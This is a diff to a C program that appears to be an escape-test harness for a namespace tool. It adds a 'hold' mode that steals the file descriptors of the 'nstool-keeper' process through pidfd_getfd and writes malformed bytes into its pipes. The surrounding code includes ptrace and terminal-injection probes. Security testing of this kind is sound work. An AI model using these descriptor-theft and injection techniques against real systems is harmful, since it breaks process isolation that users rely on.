@@ -153,6 +153,29 @@ static void try_ptrace(int pid) {
 	ptrace(PTRACE_DETACH, pid, 0, 0);
 }
 
+// try_hold takes all that the keeper of a program has open, for good, and tells
+// by its pipes what makes no sense.
+static void try_hold(int pid) {
+	char path[64], comm[32] = "";
+	snprintf(path, sizeof path, "/proc/%d/comm", pid);
+	int fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (fd < 0) return;
+	if (read(fd, comm, sizeof comm - 1) < 0) comm[0] = 0;
+	close(fd);
+	if (pid == last || strcmp(comm, "nstool-keeper\n")) return;
+	int keeper = syscall(SYS_pidfd_open, pid, 0), held = 0;
+	for (int i = 0; keeper >= 0 && i < 64; i++) {
+		struct stat st;
+		fd = syscall(SYS_pidfd_getfd, keeper, i, 0);
+		if (fd < 0 || fstat(fd, &st) < 0 || !S_ISFIFO(st.st_mode)) continue;
+		if (write(fd, "\1\0\0\0\1\0\0", 7) == 7) held++;
+	}
+	if (held) {
+		last = pid;
+		loot("holds %d pipes", held);
+	}
+}
+
 // inject types a command line into a terminal.
 static int inject(int fd) {
 	for (const char *p = "PWND\n"; *p; p++)
@@ -231,6 +254,8 @@ int main(int argc, char **argv) {
 		watch(try_exe);
 	} else if (!strcmp(word, "ptrace")) {
 		watch(try_ptrace);
+	} else if (!strcmp(word, "hold")) {
+		watch(try_hold);
 	} else if (!strcmp(word, "overwrite")) {
 		if (fork() == 0) {
 			loot("holds the file");
